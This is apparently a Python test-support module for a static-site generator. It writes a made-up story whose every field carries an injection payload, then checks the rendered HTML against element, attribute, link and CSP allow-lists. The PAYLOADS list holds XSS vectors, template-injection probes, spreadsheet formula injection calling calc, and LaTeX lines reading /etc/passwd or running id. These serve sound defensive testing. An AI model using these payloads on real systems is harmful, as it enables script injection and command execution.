"""A made-up story in which every text may be hostile, and the question whether a finished page is harmless.

The page is parsed again by somebody else's parser, html5lib, as a browser would, and all that is in it must be on a
list: element by element, attribute by attribute. So nothing has to be foreseen but what is allowed.
"""

from __future__ import annotations

import json
import posixpath
import re
from base64 import b64encode
from collections.abc import Iterator, Mapping, Sequence
from hashlib import sha256
from itertools import cycle
from pathlib import Path
from urllib.parse import unquote
from xml.etree.ElementTree import Element

import html5lib

ADDRESS = "https://example.org/row/"

PAYLOADS = (
    "<script>alert(1)</script>",
    "</script><script src=//evil.example/x.js></script>",
    "</title></style></textarea></svg><img src=x onerror=alert(1)>",
    '"><svg/onload=alert(1)><use href=//evil.example/#x>',
    "' autofocus onfocus=alert(1) x='",
    "[press](javascript:alert(1)) and <a href='javascript&#58;alert(1)'>here</a>",
    "![x](https://evil.example/pixel.gif) <iframe src=//evil.example></iframe>",
    "<form action=//evil.example><input name=q><button formaction=//evil.example>go</button></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'><base href=//evil.example/>",
    "<style>@import '//evil.example/x.css'</style><p style='position:fixed'>over all</p>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=alert(1)>'>",
    "<object data=//evil.example></object><embed src=//evil.example><link rel=stylesheet href=//evil.example>",
    "{{ 7*7 }} {% include 'layout.html' %} {{ cycler.__init__.__globals__ }} {# gone #}",
    '=HYPERLINK("https://evil.example";"press")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "BEGIN:VALARM\\nATTACH:https://evil.example\\, END:VEVENT",
    "\\input{/etc/passwd} }, author = {x} % \\write18{id}",
    "]]> <!-- --!> --> <?xml-stylesheet href='//evil.example'?> <!DOCTYPE x>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt;b&amp;gt; &#x3c;i>",
    "<scr<script>ipt>alert(1)</scr</script>ipt> <img/src=`x`onerror=alert(1)>",
    '<a href=data:text/html,x ping=//evil.example>a</a> <a href="vbscript:x">b</a> <a href=file:///etc/passwd>c</a>',
    "<video poster=//evil.example><source src=//evil.example></video> <body background=//evil.example onload=alert(1)>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a><foreignObject><script>1</script></foreignObject></svg>",
    '<template><script>1</script></template><noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
)
"""One line each, so that they can stand in any field."""

# ------------------------------------------------------------------ a story


def write_hostile_story(folder: Path, payloads: Sequence[str] = PAYLOADS) -> Path:
    """Write a content folder in which every text of every file holds one of the payloads; returns the folder."""
    writer = _Writer(folder, payloads)
    writer.write_settings()
    writer.write_sources()
    writer.write_records()
    paragraphs = "\n\n".join(f"In short: {text}" for text in payloads)
    links = "Write [to us](mailto:desk@example.org) or read [on](https://example.org/) or [here](index.html)."
    writer.write("pages/about.md", f"---\ntitle: {writer.say('About')}\n---\n## Our rules\n\n{paragraphs}\n\n{links}\n")
    return folder


class _Writer:
    """Deals out the payloads, one to a field, in turn."""

    def __init__(self, folder: Path, payloads: Sequence[str]) -> None:
        self.folder = folder
        self.payloads = payloads
        self._dealt = cycle(payloads)

    def say(self, before: str) -> str:
        """Some words and a payload, as a YAML scalar."""
        return json.dumps(f"{before} {next(self._dealt)}", ensure_ascii=False)

    def attribute(self, name: str, before: str) -> str:
        """The same as an attribute of a list below a paragraph, which knows no way to write its own quotation mark."""
        return f'{name}="{before} {next(self._dealt).replace(chr(34), chr(39))} so"'

    def write(self, name: str, text: str) -> None:
        file = self.folder / name
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_text(text, encoding="utf-8")

    def write_settings(self) -> None:
        say = self.say
        # Lanes, parties and countries repeat a name letter for letter.
        norland, sorrelia = say("Norland"), say("Sorrelia")
        self.write(
            "timeline.yml",
            f"title: {say('Ferries')}\nsubtitle: {say('A quarrel')}\ndek: {say('It tells')}\n"
            f"cities: [{say('Varn')}]\n"
            f"base_url: {ADDRESS}\nrepository: https://example.org/?q=%22%3E%3Cscript%3E&'onclick='x\n"
            f"scope: {{parties: [{norland}, {sorrelia}], words: [{say('quay')}, pier]}}\n"
            f"lanes: [{norland}, {sorrelia}]\n"
            f"publish: {{excerpt_words: 12, rights: {say('Made up.')}}}\npages: [about]\n",
        )
        self.write(
            "actors.yml",
            f"- {{name: {norland}, kind: country, country: {norland}, spellings: [Norland, {say('Nor')}]}}\n"
            f"- {{name: {sorrelia}, kind: country, country: {sorrelia}, spellings: [Sorrelia], note: {say('Note:')}}}\n"
            f"- name: {say('Ada Brandt')}\n  kind: person\n  country: {norland}\n  wikidata: Q1\n"
            f"  note: {say('Known for')}\n  spellings: [Ada Brandt, {say('Brandt')}]\n"
            f"  formerly: [{say('Ada Vogel')}]\n"
            f"  roles: [{{role: {say('Minister')}, from: 2029, to: 2031, note: {say('she said')}}}]\n",
        )

    def write_sources(self) -> None:
        talks = (
            f"Norland and Sorrelia began talks on a pier on 2 May 2030, minister Ada Brandt said: {next(self._dealt)}\n"
            f"{{: #first-talks {self.attribute('title', 'Talks')} {self.attribute('summary', 'They')} "
            f"{self.attribute('note', 'See')} }}"
        )
        told = [
            f"On {day} June 2030 Norland told Sorrelia in Port Ellery: {text}"
            for day, text in enumerate(self.payloads, start=1)
        ]
        self.write_source(
            "2030-05-10-gazette",
            "2030-05-10",
            ["Norland would pay for the pier, it said on 8 May 2030.\n{: #pier-promised }", talks, *told],
        )
        denied = (
            "Norland will never pay for the pier, it said on 9 May 2030.\n"
            f"{{: same-as=pier-promised {self.attribute('note', 'See')} }}"
        )
        self.write_source(
            "2030-05-12-times",
            "2030-05-12",
            [denied, talks.partition("\n")[0]],
            "same_text_as: 2030-06-30-review",
            "formerly: [2030-05-12-old-times]",
            "language: ru",
            f"title_en: {self.say('In other words')}",
        )
        self.write_source("2030-06-30-review", "2030-06-30", told, "text: verbatim")

    def write_source(self, name: str, day: str, paragraphs: Sequence[str], *lines: str) -> None:
        say = self.say
        head = (
            f"title: {say('Headline')}",
            f"title_note: {say('From')}",
            f"publisher: {say('The Gazette')}",
            f"author: {say('Vogel, Ivo;')}",
            f"published: {day}",
            f"published_note: {say('On the page:')}",
            f"url: https://example.org/{name}?a='onclick=alert(1)&b=%22;{{{{7*7}}}}",
            "archive_url: https://example.net/web/20300601/x",
            "accessed: 2030-07-01",
            *lines,
        )
        self.write(f"sources/{name}.md", "---\n" + "\n".join(head) + "\n---\n" + "\n\n".join(paragraphs) + "\n")

    def write_records(self) -> None:
        say = self.say
        self.write(
            "decisions.yml",
            f"- set: {{event: first-talks, title: {say('Talks began,')}, summary: {say('In short:')}}}\n"
            f"  because: {say('An editor found that')}\n"
            "- disagreement:\n    event: pier-promised\n"
            f"    about: {say('who pays')}\n    readings:\n"
            f"      - {{value: {say('Norland')}, mentions: [{{source: 2030-05-10-gazette, quote: would pay}}]}}\n"
            f"      - {{value: {say('Sorrelia')}, mentions: [{{source: 2030-05-12-times, quote: will never pay}}]}}\n"
            f"  because: {say('The papers')}\n"
            "- alias: {was: old-pier, is: pier-promised}\n",
        )
        change = f"date: 2030-05-09, title: {say('The pier')}"
        self.write(
            "changes.yml",
            "- day: 2031-01-02\n  events: 2\n  changes:\n"
            f"    - {{retitled: pier-promised, {change}, before: {say('Before:')}}}\n"
            f"    - {{merged: pier-promised, {change}, other: old-pier, before: {say('Told of')}}}\n"
            f"    - {{reported: first-talks, {change}, sources: [2030-05-12-times, {say('gone')}]}}\n"
            f"    - {{added: never-seen, {change}}}\n"
            "- {day: 2031-01-01, events: 1}\n",
        )
        self.write(
            "published.yml",
            f"- {{id: pier-promised, date: 2030-05-08, title: {say('A pier')}, was: [older-pier],\n"
            f"   mentions: {{2030-05-10-gazette: {{m-0000000001: {say('Norland would pay')}}}}}}}\n"
            f"- {{sources: [2030-05-10-gazette, {say('gone')}]}}\n- {{actors: [{say('gone')}]}}\n",
        )


# ------------------------------------------------------------------ a page

_COMMON = frozenset({"class", "id", "lang", "dir", "title", "hidden", "role", "tabindex"})
_ARIA = frozenset(
    f"aria-{name}"
    for name in ("current", "expanded", "haspopup", "hidden", "keyshortcuts", "label", "labelledby", "live")
)
_PLAIN = (
    *("abbr", "article", "aside", "b", "bdi", "blockquote", "body", "br", "caption", "cite", "code", "dd", "details"),
    *("div", "dl", "dt", "em", "fieldset", "figcaption", "figure", "footer", "h1", "h2", "h3", "h4", "head", "header"),
    *("hr", "i", "kbd", "legend", "main", "mark", "nav", "p", "pre", "q", "section", "small", "span", "strong"),
    *("summary", "table", "tbody", "td", "thead", "title", "tr", "ul"),
)
_HTML: Mapping[str, str] = {
    **dict.fromkeys(_PLAIN, ""),
    "a": "href rel target data-with data-y data-originalurl data-versionurl data-versiondate",
    "article": "data-a data-c data-d data-hi data-k data-lo data-n data-s data-st",
    "button": "form type value data-copy data-save",
    "details": "open",
    "dialog": "data-address data-from",
    "div": "data-names",
    "form": "",
    "html": "data-title",
    "input": "autocomplete checked name placeholder type value",
    "label": "for",
    "li": "value",
    "link": "href rel type",
    "meta": "charset content http-equiv name property",
    "ol": "start",
    "option": "data-key value",
    "output": "",
    "script": "src type",
    "select": "name",
    "span": "data-cite",
    "th": "colspan scope",
    "time": "datetime",
}
"""Element → its attributes besides those that any may have."""
_PAINT = "x y x1 x2 y1 y2 cx cy r dx width height fill d transform text-anchor"
_SVG: Mapping[str, str] = {
    **dict.fromkeys(("circle", "g", "line", "path", "rect", "text", "tspan"), f"{_PAINT} mask"),
    **dict.fromkeys(("defs", "linearGradient", "title"), ""),
    "a": "href",
    "g": "data-base data-lane data-most data-shape",
    "mask": "maskContentUnits",
    "stop": "offset stop-color stop-opacity",
    "svg": "width height viewBox y preserveAspectRatio "
    "data-bot data-from data-left data-right data-step data-to data-top",
    "symbol": "viewBox",
    "use": "href x y",
}
_NAMESPACES = {"http://www.w3.org/1999/xhtml": _HTML, "http://www.w3.org/2000/svg": _SVG}
_VALUES: Mapping[str, str] = {
    **dict.fromkeys(("data-originalurl", "data-versionurl"), r"https?://[^\s]+"),
    **dict.fromkeys(("mask", "fill"), r"url\(#[\w-]+\)|#[0-9a-f]+|none"),
    "target": "_top",
}
"""Attributes whose values are looked at, besides links."""
_PROSE = {
    *("a", "blockquote", "br", "code", "em", "h2", "h3", "h4", "hr", "li", "ol", "p", "pre", "strong", "ul"),
    *("table", "thead", "tbody", "tr", "th", "td"),
}
"""What a page of the editor's own may hold."""
_POLICY = (
    r"default-src 'none'; style-src 'self'; script-src 'self'( 'sha256-(?P<hash>[\w+/=]+)')?; font-src 'self'; "
    r"img-src 'self' data:; connect-src 'self'; base-uri 'none'; form-action 'self'"
)


def parse_page(content: bytes) -> Element:
    """A page as a browser reads it."""
    tree: Element = html5lib.parse(content, treebuilder="etree", transport_encoding="utf-8")
    return tree


def find_harm(path: str, content: bytes, files: Mapping[str, bytes]) -> Iterator[str]:
    """Everything in a finished page that is on no list; ``files`` are those of the site, which links may lead to."""
    tree = parse_page(content)
    yield from _find_foreign_scripts(path, tree)
    for element in tree.iter():
        yield from _find_unlisted(path, element, files)
    for prose in _find_prose(tree):
        for element in prose.iter():
            name = str(element.tag).rpartition("}")[2]
            if element is not prose and (name not in _PROSE or element.attrib.keys() - {"href", "title", "rel"}):
                yield f"{path}: <{name}> within a page of the editor's own: {element.attrib}"


def _find_unlisted(path: str, element: Element, files: Mapping[str, bytes]) -> Iterator[str]:
    if not isinstance(element.tag, str):
        yield f"{path}: a comment, or an instruction to a processor: {element.text!r}"
        return
    namespace, _, name = element.tag.removeprefix("{").rpartition("}")
    listed = _NAMESPACES.get(namespace, {})
    if name not in listed:
        yield f"{path}: <{name}> of {namespace}"
        return
    allowed = {*_COMMON, *_ARIA, *listed[name].split()}
    for attribute, value in element.attrib.items():
        expected = _VALUES.get(attribute)
        if attribute not in allowed or (expected and not re.fullmatch(expected, value)):
            yield f"{path}: <{name} {attribute}={value!r}>"
        elif attribute == "href" and not _is_harmless(path, name, value, files):
            yield f"{path}: <{name}> leads to {value!r}"
        elif attribute == "http-equiv" and not _is_expected(path, value, element.get("content", ""), files):
            yield f"{path}: <meta http-equiv={value!r} content={element.get('content')!r}>"


def _is_harmless(path: str, name: str, target: str, files: Mapping[str, bytes]) -> bool:
    """Whether a link leads to a file of the site, or out of it in a way that is allowed there."""
    # As a browser reads it (WHATWG URL): no control characters around, no tabs and line ends within, "\\" for "/".
    read = re.sub(r"[\t\n\r]", "", target.strip("".join(map(chr, range(33))))).replace("\\", "/")
    scheme = re.match(r"([A-Za-z][A-Za-z0-9+.-]*):", read)
    if name == "use":
        return target.startswith("#")
    if scheme and scheme[1].lower() in {"http", "https"}:
        return name == "a" or read.startswith(ADDRESS)
    if scheme:
        return scheme[1].lower() == "mailto" and name == "a" and path == "about.html"
    if read.startswith("//"):
        return False
    inside = unquote(read.partition("#")[0].partition("?")[0])
    # What an editor mistypes on a page leads nowhere, and `check` lists it.
    return (
        not inside
        or path == "about.html"
        or posixpath.normpath(posixpath.dirname(path) + "/" + inside).lstrip("/") in files
    )


def _is_expected(path: str, name: str, value: str, files: Mapping[str, bytes]) -> bool:
    if name == "refresh":  # of a page that has moved
        start, _, target = value.partition("url=")
        return start == "0; " and ":" not in target and _is_harmless(path, "a", target, files)
    return name == "Content-Security-Policy"


def _find_foreign_scripts(path: str, tree: Element) -> Iterator[str]:
    """Scripts must be files of the site, or data that the policy knows by its fingerprint; and there is one policy."""
    head = next(element for element in tree.iter() if str(element.tag).endswith("}head"))
    policies = [element for element in tree.iter() if element.get("http-equiv") == "Content-Security-Policy"]
    policy = re.fullmatch(_POLICY, policies[0].get("content", "")) if policies else None
    if len(policies) != 1 or policies[0] not in list(head) or policy is None:
        yield f"{path}: its policy is {[element.attrib for element in policies]}"
        return
    before = list(head)[: list(head).index(policies[0])]
    if any(element.get("charset") is None and element.get("name") != "viewport" for element in before):
        yield f"{path}: something stands before the policy"
    for script in (element for element in tree.iter() if str(element.tag).endswith("}script")):
        text = script.text or ""
        if script.get("type") == "application/ld+json":
            json.loads(text)
            if b64encode(sha256(text.encode()).digest()).decode() != policy["hash"]:
                yield f"{path}: data that the policy does not know"
        elif text or not re.fullmatch(rf"((\.\.?/)?|{re.escape(ADDRESS)})(dateline|moved)\.js", script.get("src", "")):
            yield f"{path}: <script src={script.get('src')!r}>{text[:80]}"


def _find_prose(tree: Element) -> list[Element]:
    return [element for element in tree.iter() if element.get("class") == "prose"]


def read_text(element: Element) -> str:
    """What a reader sees of an element, white space collapsed."""
    return " ".join("".join(element.itertext()).split())
